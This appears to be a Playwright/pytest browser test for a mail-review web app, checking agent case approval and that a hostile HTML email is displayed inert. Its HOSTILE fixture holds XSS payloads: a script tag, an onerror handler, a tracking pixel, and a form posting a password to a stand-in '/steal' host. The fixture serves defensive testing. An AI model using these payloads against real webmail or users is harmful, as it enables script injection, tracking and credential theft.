"""The review desk in real Chromium against `mailbot serve`, Dovecot and the SMTP sink."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from mailbot.store.models import AuditRow, CaseRow, MessageRow
from mailbot.web.users import add_user
from tests.harness import REPO, Harness, mail
from tests.servers import free_port, require, wait_port

pytestmark = [pytest.mark.browser, pytest.mark.dovecot]
CHROMIUM = "/usr/bin/chromium"
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
        "--disable-component-update", "--no-first-run", "--disable-sync"]
ARTIFACTS = REPO / "test-artifacts"
PASSWORD = "alice-password"
HOSTILE = (
    b"From: Kate White <kate.white@example.com>\r\nTo: support@crmrunner.example\r\n"
    b"Subject: Cancel my account\r\nDate: Mon, 02 Mar 2026 09:20:00 -0500\r\n"
    b"Message-ID: <hostile@client.example>\r\nMIME-Version: 1.0\r\n"
    b"Content-Type: text/html; charset=utf-8\r\n\r\n"
    b"<html><head><style>body{background:url(http://198.51.100.7/bg.png)}</style></head><body>"
    b"<script>document.title='pwned'; window.pwned = 1; alert('script ran');</script>"
    b"<img src=x onerror=\"window.pwned = 2; alert('onerror ran')\">"
    b"<img src=\"http://198.51.100.7/track.png\" width=1 height=1>"
    b"<form action=\"http://198.51.100.7/steal\"><input name=password></form>"
    b"<p>Please cancel my account. Username: kwhite88, account number 2290317.</p>"
    b"</body></html>\r\n"
)


@dataclass
class Served:
    url: str
    harness: Harness
    requests: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)


@pytest.fixture
def served(harness: Harness) -> Iterator[Served]:
    """`mailbot serve` on a free port over a polled mailbox: an identity mismatch and a
    hostile HTML message; an agent alice."""
    require(Path(CHROMIUM).exists(), f"Chromium ({CHROMIUM}; Debian package chromium)")
    port = free_port()
    harness.write_config(extra=f'\n[web]\nport = {port}\nsecret_key_env = "DESK_TEST_KEY"\n')
    harness.setup()
    add_user(harness.app.db, "alice", "agent", PASSWORD, now=harness.app.clock())
    harness.append(mail("jdoe@example.com", "Cancel my account please.\nUsername: jdoe\n"
                        "Account number: 7742051", message_id="<mismatch@client.example>"))
    harness.append(HOSTILE)
    harness.poll()
    proc = subprocess.Popen(
        [sys.executable, "-m", "mailbot", "serve", "--config", str(harness.config_path)],
        cwd=harness.root, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
        env={**os.environ, "DESK_TEST_KEY": "browser-test-secret-key"})
    try:
        wait_port(port, timeout=20)
        yield Served(f"http://127.0.0.1:{port}", harness)
    finally:
        proc.terminate()
        proc.wait(15)


@pytest.fixture
def page(served: Served):  # playwright's Page
    """A Chromium page that records every request it makes and every dialog it opens."""
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:  # pragma: no cover - the test extra installs it
        require(False, "the playwright Python package (pip install -e '.[test]')")
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        context = browser.new_context(viewport={"width": 1366, "height": 900})
        p = context.new_page()
        p.on("request", lambda r: served.requests.append(r.url))
        p.on("dialog", lambda d: (served.dialogs.append(d.message), d.dismiss()))
        yield p
        context.close()
        browser.close()


def shot(page, name: str) -> Path:
    ARTIFACTS.mkdir(exist_ok=True)
    path = ARTIFACTS / f"web-{name}.png"
    page.screenshot(path=str(path), full_page=True)
    print(f"screenshot: {path}")
    return path


def log_in(page, served: Served) -> None:
    page.goto(served.url + "/queue")
    assert "/login" in page.url
    page.fill("input[name=username]", "alice")
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_url("**/queue")


def case_where(h: Harness, message_id: str) -> CaseRow:
    """The case a polled message (by Message-ID) belongs to."""
    with h.app.db.session(readonly=True) as session:
        message = session.query(MessageRow).filter_by(message_id=message_id).one()
        return session.get(CaseRow, message.case_id)


def test_agent_corrects_and_approves_a_flagged_case(served: Served, page):
    """Log in, open the identity mismatch, correct the account number, approve: the reply
    reaches the SMTP sink and the history names the agent."""
    h = served.harness
    log_in(page, served)
    assert page.locator(".tab.current .count").inner_text() == "1"
    shot(page, "queue")
    ref = case_where(h, "<mismatch@client.example>").reference
    page.click(f"text={ref}")
    page.wait_for_url(f"**/cases/{ref}")
    assert "Identity mismatch" in page.inner_text("main")
    page.fill("#actions input[name=account_number]", "4810237")
    page.click("#actions button[name=correct]")
    page.wait_for_url(f"**/cases/{ref}")
    assert "Stop renewal" in page.inner_text("#decision")
    assert "4810237" in page.inner_text("#preview")
    before = len(h.sink.to("jdoe@example.com"))
    page.click("#actions button[name=approve]")
    page.wait_for_url(f"**/cases/{ref}")
    assert "confirmed" in page.inner_text(".flash.ok")
    deadline = time.monotonic() + 20
    while len(h.sink.to("jdoe@example.com")) == before and time.monotonic() < deadline:
        time.sleep(0.1)
    replies = h.sink.to("jdoe@example.com")
    assert len(replies) == before + 1, "the approval's reply did not reach the SMTP server"
    assert replies[-1].message["Auto-Submitted"] == "auto-replied"
    page.reload()
    history = page.inner_text("#history")
    assert "Alice corrected the account number from 7742051 to 4810237" in history
    assert "Alice approved the case: Confirmed, stop renewal" in history
    shot(page, "case")
    with h.app.db.session(readonly=True) as session:
        assert {(a.actor, a.action) for a in session.query(AuditRow)} >= {
            ("agent:alice", "login"), ("agent:alice", "corrected"), ("agent:alice", "approved")}
    page.goto(served.url + "/dashboard?days=365")
    assert page.locator("svg").count() == 2
    shot(page, "dashboard")
    assert all(urlsplit(u).netloc == urlsplit(served.url).netloc for u in served.requests)


def test_hostile_html_mail_is_shown_inert(served: Served, page):
    """A message with a script, an onerror handler, a remote image and a form is shown as
    text: nothing runs, no dialog opens and no request leaves the app."""
    log_in(page, served)
    ref = case_where(served.harness, "<hostile@client.example>").reference
    page.goto(f"{served.url}/cases/{ref}")
    page.wait_for_load_state("networkidle")
    assert "Please cancel my account" in page.inner_text("#messages")
    assert "pwned" not in page.title()
    assert page.evaluate("typeof window.pwned") == "undefined"
    assert served.dialogs == []
    assert page.locator("#messages img, #messages form, #messages script").count() == 0
    app_host = urlsplit(served.url).netloc
    foreign = [u for u in served.requests if urlsplit(u).netloc != app_host]
    assert foreign == [], foreign
    shot(page, "hostile-case")
